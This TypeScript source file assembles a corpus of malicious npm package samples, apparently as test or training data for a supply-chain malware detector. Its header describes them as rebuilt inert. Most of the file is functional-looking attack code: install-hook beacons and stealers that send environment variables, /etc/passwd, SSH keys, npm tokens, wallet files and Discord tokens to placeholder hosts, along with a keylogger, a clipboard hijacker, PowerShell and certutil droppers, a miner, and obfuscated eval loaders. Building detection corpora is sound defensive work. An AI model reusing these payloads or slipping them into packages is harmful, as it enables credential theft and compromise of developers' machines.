// npm samples in other hands' styles: each after what reports of the years 2022 to 2026 describe, rebuilt inert.
import { IP, post, pre, sample } from './field-shapes.ts'
import { base64, hex, numbers } from './sample-text.ts'
import type { Sample } from './samples.ts'

export function fieldNpmSamples(): Sample[] {
  return [...beacons(), ...stealers(), ...droppers(), ...loaders()]
}

function beacons(): Sample[] {
  return [
    sample(
      19,
      'beacon with a port and a helper',
      {
        'index.js': `const os = require("os");\nconst dns = require("dns");\nconst querystring = require("querystring");\nconst https = require("https");\nconst packageJSON = require("./package.json");\nconst trackingData = JSON.stringify({ p: packageJSON.name, c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username, dns: dns.getServers() });\nvar postData = querystring.stringify({ msg: trackingData });\nvar options = { hostname: "collector.invalid", port: 443, path: "/", method: "POST", headers: { "Content-Length": postData.length } };\nvar req = https.request(options, (res) => { res.on("data", (d) => { process.stdout.write(d); }); });\nreq.write(postData);\nreq.end();`,
      },
      pre('node index.js'),
    ),
    sample(
      19,
      'beacon by a class',
      {
        'scripts/telemetry.js': `class Reporter { constructor(url) { this.url = url } collect() { const { hostname, userInfo, platform } = require('os'); return { host: hostname(), user: userInfo(), os: platform(), dir: process.cwd(), env: Object.keys(process.env) } } async send() { const body = JSON.stringify(this.collect()); await fetch(this.url, { method: 'POST', body }) } }\nnew Reporter('https://collector.invalid/hook').send().catch(() => {})`,
      },
      post('node scripts/telemetry.js || true'),
    ),
    sample(
      19,
      'beacon with exec and hex',
      {
        'index.js': `const { exec } = require("child_process");\nexec("a=$(hostname;pwd;whoami;echo 'pkg';curl https://ip.invalid;) && echo $a | xxd -p | head | while read ut;do nslookup $ut.collector.invalid;done", (error, data, getter) => { if (error) { console.log("error", error.message); return } console.log(data) });`,
      },
      pre('node index.js'),
    ),
    sample(
      19,
      'beacon in package.json by curl with env',
      { 'index.js': '' },
      pre(`curl -X POST -d "$(env | base64 -w0)" https://collector.invalid/x`),
    ),
    sample(
      19,
      'beacon by fetch and template',
      {
        'postinstall.mjs': `import os from 'os';\nimport { readFileSync } from 'fs';\nconst info = { hostname: os.hostname(), ip: Object.values(os.networkInterfaces()).flat().map(i => i.address), passwd: readFileSync('/etc/passwd', 'utf8') };\nawait fetch(\`https://collector.invalid/c?d=\${encodeURIComponent(Buffer.from(JSON.stringify(info)).toString('base64'))}\`);`,
      },
      post('node postinstall.mjs'),
    ),
    sample(
      18,
      'beacon by chunks in names',
      {
        'index.js': `const os = require('os');\nconst dns = require('dns');\nfunction chunk(s, n) { const r = []; for (let i = 0; i < s.length; i += n) r.push(s.substr(i, n)); return r }\nconst payload = Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: process.cwd() })).toString('hex');\nchunk(payload, 50).forEach((c, i) => dns.resolve4(c + '.' + i + '.d.collector.invalid', function () {}));`,
      },
      post('node index.js'),
    ),
    sample(19, 'beacon at import, promise chain', {
      'lib/main.js': `'use strict';\nvar http = require('http'), os = require('os');\nfunction ping() { try { var data = Buffer.from([os.hostname(), os.type(), os.userInfo().username, __filename].join('|')).toString('base64'); var r = http.request({ host: 'collector.invalid', port: 8080, path: '/l/' + data, method: 'GET' }); r.on('error', function () {}); r.end(); } catch (e) {} }\nsetTimeout(ping, 3000);\nmodule.exports = {};`,
      'package.json': '{"name":"x","version":"3.4.5","main":"lib/main.js"}',
    }),
    sample(
      17,
      'beacon to a burp host, split',
      {
        'index.js': `const h = ['x7f3k2', 'oastify', 'com'].join('.');\nrequire('https').get({ host: h, path: '/' + require('os').hostname() });`,
      },
      pre('node index'),
    ),
    sample(
      41,
      'confusion with nothing but a version and a ping',
      {
        'index.js': 'console.log("dependency confusion test by a researcher")',
        'ping.js': `const https = require('https'); https.get('https://collector.invalid/poc?pkg=' + process.env.npm_package_name)`,
      },
      { ...pre('node ping.js'), version: '69.0.1' },
    ),
    sample(
      19,
      'whoami by spawnSync',
      {
        'build.js': `const cp = require('child_process');\nconst id = cp.spawnSync('id').stdout.toString();\nconst req = require('https').request('https://collector.invalid/', { method: 'PUT' });\nreq.end(id);`,
      },
      pre('node build.js'),
    ),
    sample(
      19,
      'beacon with axios default',
      {
        'index.js': `const axios = require('axios').default;\nconst { machine, hostname, userInfo } = require('os');\nasync function main() { const res = await axios({ method: 'post', url: 'https://collector.invalid/api/install', data: { name: hostname(), who: userInfo().username, path: __dirname } }) }\nmain()`,
      },
      { scripts: { install: 'node .' } },
    ),
    sample(
      19,
      'hosts file sent',
      {
        'index.js': `const fs = require('fs'), https = require('https');\nlet data = {};\nfor (const f of ['/etc/hosts', '/etc/resolv.conf', '/etc/passwd']) { try { data[f] = fs.readFileSync(f).toString('base64') } catch (e) {} }\nconst r = https.request({ method: 'POST', host: 'collector.invalid', path: '/' });\nr.write(JSON.stringify(data)); r.end();`,
      },
      pre('node index.js > /dev/null 2>&1'),
    ),
  ]
}

function stealers(): Sample[] {
  return [
    sample(
      8,
      'environment filtered by name',
      {
        'config.js': `const targets = /KEY|TOKEN|SECRET|PASS|PRIVATE|MNEMONIC/i;\nconst found = {};\nfor (const [k, v] of Object.entries(process.env)) if (targets.test(k)) found[k] = v;\nif (Object.keys(found).length) require('https').request({ hostname: 'collector.invalid', method: 'POST', path: '/v1/metrics' }).end(JSON.stringify(found));`,
      },
      post('node config.js'),
    ),
    sample(9, 'dot env files searched and uploaded', {
      'index.js': `const fs = require('fs'), path = require('path'), axios = require('axios');\nfunction walk(d, out = []) { for (const f of fs.readdirSync(d)) { const p = path.join(d, f); try { if (fs.statSync(p).isDirectory()) walk(p, out); else if (f === '.env' || f.endsWith('.pem') || f.includes('id_rsa')) out.push(p) } catch {} } return out }\nfor (const p of walk(require('os').homedir())) axios.post('https://collector.invalid/u', { p, c: fs.readFileSync(p, 'utf8') });`,
    }),
    sample(12, 'solana key files by known names', {
      'index.js': `const fs = require('fs'); const os = require('os');\nconst files = ['.config/solana/id.json', '.ethereum/keystore', '.bitcoin/wallet.dat', '.electrum/wallets'];\n(async () => { for (const f of files) { const p = os.homedir() + '/' + f; if (fs.existsSync(p)) await fetch('https://collector.invalid/w', { method: 'POST', body: fs.readFileSync(p) }) } })()`,
    }),
    sample(12, 'key taken from a keypair in a helper', {
      'lib/keypair.js': `const bs58 = require('bs58');\nclass Account { constructor(kp) { this.kp = kp; this._report(bs58.encode(kp.secretKey)) } async _report(k) { await fetch('https://collector.invalid/rpc', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ data: k }) }).catch(() => null) } }\nmodule.exports = { Account };`,
      'index.js': `module.exports = require('./lib/keypair')`,
    }),
    sample(11, 'browser extension stores walked', {
      'main.js': `const fs = require('fs'), path = require('path'), os = require('os'), request = require('request');\nconst R = ['Local/BraveSoftware/Brave-Browser', 'BraveSoftware/Brave-Browser'], Q = ['Local/Google/Chrome', 'Google/Chrome', 'google-chrome'];\nconst X = ['nkbihfbeogaeaoehlefn', 'ejbalbakoplchlghecda', 'fhbohimaelbohpjbbldc'];\nconst uploadFiles = async (p, t) => { let e = []; for (let i = 0; i < 200; i++) { const n = p + '/' + (i === 0 ? 'Default' : 'Profile ' + i) + '/Local Extension Settings'; for (const x of X) { try { fs.readdirSync(n + '/' + x).forEach(f => e.push({ value: fs.createReadStream(path.join(n, x, f)) })) } catch {} } } request.post({ url: 'http://${IP}:1224/uploads', formData: { type: t, multi_file: e } }) };\nuploadFiles(os.homedir() + '/.config/' + Q[2], '0_');`,
    }),
    sample(11, 'discord tokens by their shape', {
      'index.js': `const fs = require('fs'), axios = require('axios');\nconst paths = [process.env.APPDATA + '\\\\discord\\\\Local Storage\\\\leveldb', process.env.LOCALAPPDATA + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Local Storage\\\\leveldb'];\nconst tokens = [];\nfor (const p of paths) for (const f of fs.readdirSync(p)) { const m = fs.readFileSync(p + '\\\\' + f, 'utf8').match(/[A-Za-z\\d]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g); if (m) tokens.push(...m) }\naxios.post('https://collector.invalid/t', { tokens });`,
    }),
    sample(13, 'clipboard replaced on Windows', {
      'service.js': `const { execSync } = require('child_process');\nconst ETH = '0xAbCdEf0123456789abcdef0123456789ABCDEF01';\nsetInterval(() => { const c = execSync('powershell -command "Get-Clipboard"').toString().trim(); if (/^0x[a-fA-F0-9]{40}$/.test(c) && c !== ETH) execSync('powershell -command "Set-Clipboard ' + ETH + '"') }, 1000);`,
      'index.js': `require('./service')`,
    }),
    sample(11, 'keys logged to a mail account', {
      'index.js': `const { GlobalKeyboardListener } = require('node-global-key-listener'); const nodemailer = require('nodemailer');\nlet log = ''; const v = new GlobalKeyboardListener(); v.addListener(e => { if (e.state === 'DOWN') log += e.name });\nconst t = nodemailer.createTransport({ service: 'gmail', auth: { user: 'a@mail.invalid', pass: 'x' } });\nsetInterval(() => { t.sendMail({ from: 'a@mail.invalid', to: 'a@mail.invalid', text: log }); log = '' }, 60000);`,
    }),
    sample(
      8,
      'npm token posted from an npmrc',
      {
        'install.js': `const { readFileSync, existsSync } = require('fs'); const { join } = require('path'); const { homedir } = require('os');\nconst rc = join(homedir(), '.npmrc');\nif (existsSync(rc)) { const m = /_authToken=(.+)/.exec(readFileSync(rc, 'utf8')); if (m) fetch('https://collector.invalid/n', { method: 'POST', body: m[1] }) }`,
      },
      post('node install.js'),
    ),
    sample(11, 'form data of pages', {
      'dist/index.js': `(function () { document.addEventListener('submit', function (e) { var d = {}; new FormData(e.target).forEach(function (v, k) { d[k] = v }); navigator.sendBeacon('https://collector.invalid/f', JSON.stringify({ u: location.href, c: document.cookie, d: d })) }, true) })()`,
      'package.json': '{"name":"x","version":"1.0.0","main":"dist/index.js"}',
    }),
    sample(
      15,
      'webhook in pieces',
      {
        'index.js': `const id = '1111111111111111111', t = 'abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzABCDEFGH';\nconst os = require('os');\nfetch('https://discord.com/api/webhooks/' + id + '/' + t, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ content: os.hostname() + ' ' + os.userInfo().username }) })`,
      },
      post('node index.js'),
    ),
    sample(16, 'telegram by variables', {
      'index.js': `const TelegramBot = require('node-telegram-bot-api'); const bot = new TelegramBot('7123456789:AAF-abcdefghijklmnopqrstuvwxyz12345', { polling: true });\nbot.onText(/\\/sh (.+)/, (msg, m) => require('child_process').exec(m[1], (e, o) => bot.sendMessage(msg.chat.id, o)))`,
    }),
  ]
}

function droppers(): Sample[] {
  return [
    sample(2, 'binary by platform from workers', {
      'index.js': `require('./_init'); module.exports = {}`,
      '_init.js': `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');\nconst hosts = [['oob-worker', 'cf99-9b3', 'workers', 'invalid'].join('.'), ['oob-worker', 'cf101-adf', 'workers', 'invalid'].join('.')];\nconst file = { linux_x64: 'package', linux_arm64: 'package-arm64', win32_x64: 'package.exe' }[os.platform() + '_' + os.arch()];\nconst out = path.join(os.tmpdir(), '.' + Math.random().toString(36).slice(2));\nfunction go(i) { https.get({ hostname: hosts[i], path: '/pkg/' + file }, r => { const w = fs.createWriteStream(out, { mode: 0o755 }); r.pipe(w).on('finish', () => { const c = spawn(out, [], { detached: true, stdio: 'ignore' }); c.unref() }) }).on('error', () => go(i + 1)) }\ngo(0)`,
    }),
    sample(
      2,
      'zip unpacked by PowerShell',
      {
        'scripts/postinstall.js': `const os = require('os'), fs = require('fs'), path = require('path'), https = require('https'), { execSync, spawn } = require('child_process');\nif (os.platform() !== 'win32') process.exit(0);\nconst dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p-')), zip = path.join(dir, 'd.zip');\nhttps.get('https://files.invalid/init/digit/', res => { res.pipe(fs.createWriteStream(zip)).on('close', () => { execSync('powershell Expand-Archive ' + zip + ' ' + dir); for (const f of fs.readdirSync(dir)) if (f.endsWith('.exe')) spawn(path.join(dir, f), { detached: true, stdio: 'ignore' }).unref() }) })`,
      },
      post('node scripts/postinstall.js'),
    ),
    sample(
      2,
      'bat file in the package',
      {
        'index.js': '',
        'preinstall.bat': `@echo off\ncurl -s -L -o %TEMP%\\sdd.dll http://${IP}:8080/sdd.dll\nrundll32 %TEMP%\\sdd.dll,entry\n`,
      },
      pre('start /B preinstall.bat'),
    ),
    sample(
      3,
      'PowerShell from JavaScript, joined',
      {
        'install.js': `const cmd = ['power', 'shell', ' -nop -w hidden -c ', '"IEX(New-Object Net.WebClient).DownloadString(\\'http://${IP}/a.ps1\\')"'].join('');\nrequire('child_process').exec(cmd);`,
      },
      { scripts: { install: 'node install.js' } },
    ),
    sample(
      4,
      'bun fetched from its releases',
      {
        'setup.mjs': `import { execSync, spawnSync } from 'node:child_process'; import os from 'node:os'; import path from 'node:path'; import fs from 'node:fs';\nconst url = \`https://github.com/oven-sh/bun/releases/download/bun-v1.2.0/bun-\${os.platform()}-\${os.arch()}.zip\`;\nconst dir = fs.mkdtempSync(path.join(os.tmpdir(), 'b-'));\nconst r = await fetch(url); fs.writeFileSync(path.join(dir, 'b.zip'), Buffer.from(await r.arrayBuffer()));\nexecSync(\`unzip -o \${dir}/b.zip -d \${dir}\`);\nspawnSync(path.join(dir, 'bun'), ['run', 'math_init.js'], { stdio: 'ignore' });`,
        'math_init.js': `var _0x1=${'_0xabc1(0x1f,0x2e)+'.repeat(3000)}1`,
        'index.js': 'module.exports = {}',
      },
      pre('node setup.mjs'),
    ),
    sample(
      2,
      'command in binding.gyp',
      {
        'index.js': 'module.exports = {}',
        'hook.js': `require('https').get('https://collector.invalid/'+require('os').hostname())`,
        'binding.gyp':
          '{"targets":[{"target_name":"a","sources":["<!(node hook.js > /dev/null 2>&1 && echo stub.c)"]}]}',
      },
      { scripts: { install: 'node-gyp rebuild' } },
    ),
    sample(
      39,
      'miner with its pool',
      {
        'index.js': `const { spawn } = require('child_process'); const os = require('os'); const path = require('path');\nconst bin = path.join(__dirname, os.platform() === 'win32' ? 'jsextension.exe' : 'jsextension');\nspawn(bin, ['-o', 'pool.invalid:443', '-k', '-a', 'rx/0', '--tls', '-u', '4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'], { detached: true });`,
      },
      pre('node index.js'),
    ),
    sample(2, 'download with node-fetch and a buffer, run by the shell', {
      'start.js': `const fetch = require('node-fetch'); const { writeFileSync, chmodSync } = require('fs'); const { execFile } = require('child_process');\nfetch('http://${IP}/agent').then(r => r.buffer()).then(b => { writeFileSync('/var/tmp/.cache', b); chmodSync('/var/tmp/.cache', 0o777); execFile('/var/tmp/.cache') })`,
    }),
    sample(
      2,
      'certutil in an npm hook file',
      {
        'hook.js': `const { exec } = require('child_process'); exec('certutil -urlcache -split -f https://files.invalid/b.exe %TEMP%\\\\b.exe & %TEMP%\\\\b.exe')`,
      },
      post('node hook.js'),
    ),
    sample(
      39,
      'bundled program started at install',
      {
        'start.js': `require('child_process').spawn(require('path').join(__dirname, 'lib', 'update.exe'), { detached: true, stdio: 'ignore', windowsHide: true }).unref()`,
        'lib/update.exe': 'MZ\u0000\u0000',
      },
      post('node start.js'),
    ),
    sample(2, 'got stream and chmod', {
      'lib/i.js': `import got from 'got'; import { createWriteStream, promises as fsp } from 'fs'; import { pipeline } from 'stream/promises'; import cp from 'child_process';\nconst dest = '/tmp/.x11-unix-lock'; await pipeline(got.stream('https://files.invalid/l'), createWriteStream(dest)); await fsp.chmod(dest, '755'); cp.spawn('sh', ['-c', dest + ' &'], { detached: true, stdio: 'ignore' }).unref();`,
      'package.json': '{"name":"x","version":"1.0.0","type":"module","main":"lib/i.js"}',
    }),
  ]
}

function loaders(): Sample[] {
  const body = `require('child_process').exec('id')`
  return [
    sample(6, 'child node process with a caller file', {
      'index.js': `const { spawn } = require('child_process'); const path = require('path');\nmodule.exports = () => (req, res, next) => { const c = spawn('node', [path.join(__dirname, 'lib/caller.js')], { detached: true, stdio: 'ignore' }); c.unref(); next() }`,
      'lib/caller.js': `const axios = require('axios'); const { HOST, KEY } = { HOST: '${base64('https://www.jsonkeeper.com/b/ABCDE')}', KEY: 'x-secret-key' };\n(async () => { let n = 5; while (n-- > 0) { try { const s = (await axios.get(atob(HOST), { headers: { [KEY]: '_' } })).data.cookie; const h = new (Function.constructor)('require', s); h(require); break } catch (e) {} } })()`,
    }),
    sample(6, 'remote text passed through a module', {
      'index.js': `const Module = require('module'); const https = require('https');\nhttps.get('https://stage.invalid/m', r => { let b = ''; r.on('data', c => b += c); r.on('end', () => { const m = new Module('m'); m._compile(b, 'm.js') }) })`,
    }),
    sample(6, 'data URL import', {
      'index.mjs': `const src = await (await fetch('https://stage.invalid/x')).text(); await import('data:text/javascript;base64,' + btoa(src))`,
      'package.json': '{"name":"x","version":"1.0.0","main":"index.mjs"}',
    }),
    sample(6, 'written to a temporary file and required', {
      'index.js': `const fs = require('fs'), os = require('os'), https = require('https'), path = require('path');\nhttps.get('https://stage.invalid/c.js', r => { const p = path.join(os.tmpdir(), 'c.js'); const w = fs.createWriteStream(p); r.pipe(w); w.on('finish', () => require(p)) })`,
    }),
    sample(
      23,
      'caesar and eval',
      {
        'index.js': `eval(function (s, n) { return s.replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 97 + n) % 26 + 97)) }(${JSON.stringify(body.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 97 + 13) % 26) + 97)))}, 13))`,
      },
      pre('node index.js'),
    ),
    sample(23, 'hidden by aes with the key beside', {
      'lib/core.js': `const crypto = require('crypto'); const vm = require('vm');\nconst k = Buffer.from('${hex('0123456789abcdef0123456789abcdef')}', 'hex'), iv = Buffer.alloc(16, 7);\nconst d = crypto.createDecipheriv('aes-256-cbc', k, iv); let out = d.update('${hex(body.repeat(12))}', 'hex', 'utf8'); out += d.final('utf8'); new vm.Script(out).runInThisContext();`,
      'package.json': '{"name":"x","version":"1.0.0","main":"lib/core.js"}',
    }),
    sample(23, 'numbers joined by a reducer', {
      'index.js': `const q = [${numbers(body, 11)}]; const z = q.reduce((a, c) => a + String.fromCharCode(c ^ 11), ''); setTimeout(new Function(z), 10)`,
    }),
    sample(23, 'setTimeout of decoded text', {
      'index.js': `setTimeout(Buffer.from('${base64(body)}', 'base64').toString('ascii'), 100); globalThis.eval(atob('${base64(body)}'))`,
    }),
    sample(23, 'async function constructor', {
      'index.js': `const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor; fetch('https://stage.invalid/j').then(r => r.json()).then(j => new AsyncFunction('require', j.code)(require))`,
    }),
    sample(23, 'gunzip and eval', {
      'index.js': `const z = require('zlib'); eval(z.gunzipSync(Buffer.from('H4sIAAAAAAAAA0vOzyvOz0nVy8lP11AvSk1MUQcAn2Q3dRMAAAA=', 'base64')).toString())`,
    }),
    sample(30, 'payload in a text file', {
      'index.js': `const fs = require('fs'), path = require('path'); const t = fs.readFileSync(path.join(__dirname, 'LICENSE'), 'utf8'); const at = t.indexOf('~~'); Function(t.slice(at + 2))()`,
    }),
    sample(30, 'sourcemap as payload', {
      'index.js': `const p = require('path').join(__dirname, 'vendor.dat'); const b = require('fs').readFileSync(p); for (let i = 0; i < b.length; i++) b[i] ^= 0x5a; eval(b.toString())`,
      'vendor.dat': 'xxxx',
    }),
    sample(23, 'wasm loader hands strings to eval', {
      'index.js': `const bytes = Buffer.from('AGFzbQEAAAA=', 'base64'); WebAssembly.instantiate(bytes, { env: { run: (p, n) => eval(Buffer.from(mem.buffer, p, n).toString()) } }).then(m => m.instance.exports.main())`,
    }),
    sample(22, 'solana memo, newer', {
      'dist/index.js': `const { Connection, PublicKey } = require('@solana/web3.js');\n(async () => { const c = new Connection('https://api.mainnet-beta.solana.invalid'); const s = await c.getSignaturesForAddress(new PublicKey('1111111111111111111111111111111111111111111'), { limit: 1 }); const memo = JSON.parse(s[0].memo.replace(/\\[\\d+\\] /, '')); const r = await fetch(atob(memo.link)); const k = r.headers.get('secretkey'); const code = atob(await r.text()); eval(code) })()`,
      'package.json': '{"name":"x","version":"1.0.0","main":"dist/index.js"}',
    }),
    sample(22, 'contract as dead drop', {
      'index.js': `const { ethers } = require('ethers'); const abi = ['function getString(address) view returns (string)']; const p = new ethers.JsonRpcProvider('https://mainnet.invalid'); const c = new ethers.Contract('0x1111111111111111111111111111111111111111', abi, p);\nc.getString('0x2222222222222222222222222222222222222222').then(async ip => { const f = require('fs').createWriteStream('/tmp/n'); require('https').get(ip + '/node-linux', r => r.pipe(f)); f.on('finish', () => require('child_process').spawn('/tmp/n', { detached: true })) })`,
    }),
  ]
}
